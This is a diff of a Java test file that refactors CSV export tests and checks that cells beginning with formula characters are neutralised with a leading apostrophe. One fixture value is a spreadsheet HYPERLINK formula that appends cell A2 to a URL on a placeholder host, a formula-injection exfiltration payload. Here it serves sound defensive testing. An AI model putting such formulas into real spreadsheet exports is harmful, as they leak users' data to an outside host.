@@ -7,6 +7,7 @@ import java.io.StringReader;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import java.util.Set;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
@@ -53,13 +54,17 @@ class OpenDataTest {
     assertEquals("Collection of Good Practices, Ukraine, practice 2.a", ua2a.get("section").getAsString());
   }
 
+  /** @return the records as {@code csv} writes them, read back by their header */
+  private static List<CSVRecord> rows(PracticeCsv csv, List<PracticeRecord> written) throws Exception {
+    StringBuilder out = new StringBuilder();
+    csv.write(written, out);
+    return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(out.toString())).getRecords();
+  }
+
   @Test
   void csvHasOneRowPerPracticeWithFacetsAsIds() throws Exception {
     PracticeCsv csv = new PracticeCsv(List.of("population", "setting", "year"));
-    StringBuilder out = new StringBuilder();
-    csv.write(records, out);
-    List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
-        .parse(new StringReader(out.toString())).getRecords();
+    List<CSVRecord> rows = rows(csv, records);
     assertEquals(39, rows.size());
     assertEquals(List.of("id", "title", "organisation", "country", "locations", "scope", "url", "contact", "language",
         "population", "setting", "year", "challenge", "action", "steps", "outcomes", "lessons", "notes", "source_title",
@@ -89,22 +94,13 @@ class OpenDataTest {
                        "steps": ["@home visits", "a second step"]}}]""";
     PracticeFile.Result added = new PracticeFile().read("added.json", file, Set.of());
     assertEquals(List.of(), added.errors());
-    StringBuilder out = new StringBuilder();
-    new PracticeCsv(List.of("population")).write(tagged(added.practices()), out);
-    CSVRecord row = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
-        .parse(new StringReader(out.toString())).getRecords().get(0);
-    assertEquals("UA-night-line-kyiv", row.get("id"));
-    assertEquals("'=HYPERLINK(\"https://example.org/?d=\"&A2,\"Details\")", row.get("title"));
-    assertEquals("'+Plus Foundation", row.get("organisation"));
-    assertEquals("'-help@example.org", row.get("contact"));
-    assertEquals("'- no services at night; - police raids", row.get("challenge"));
-    assertEquals("Peers answer a phone line.", row.get("action"));
-    assertEquals("'@home visits\na second step", row.get("steps"));
-    assertEquals("Ukraine", row.get("country"));
+    CSVRecord row = rows(new PracticeCsv(List.of("population")), tagged(added.practices())).get(0);
+    Map<String, String> cells = Map.of("id", "UA-night-line-kyiv", "country", "Ukraine", "action", "Peers answer a phone line.",
+        "title", "'=HYPERLINK(\"https://example.org/?d=\"&A2,\"Details\")", "organisation", "'+Plus Foundation",
+        "contact", "'-help@example.org", "challenge", "'- no services at night; - police raids", "steps", "'@home visits\na second step");
+    cells.forEach((column, cell) -> assertEquals(cell, row.get(column), column));
     // a file's text is trimmed, so a leading tab or carriage return reaches the writer only from elsewhere
-    assertEquals("'\t=1+1", PracticeCsv.text("\t=1+1"));
-    assertEquals("'\r=1+1", PracticeCsv.text("\r=1+1"));
-    assertEquals(" =1+1", PracticeCsv.text(" =1+1"));
-    assertEquals("UA-1", PracticeCsv.text("UA-1"));
+    for (String cell : List.of("\t=1+1", "\r=1+1")) assertEquals("'" + cell, PracticeCsv.text(cell));
+    for (String cell : List.of(" =1+1", "UA-1", "")) assertEquals(cell, PracticeCsv.text(cell));
   }
 }
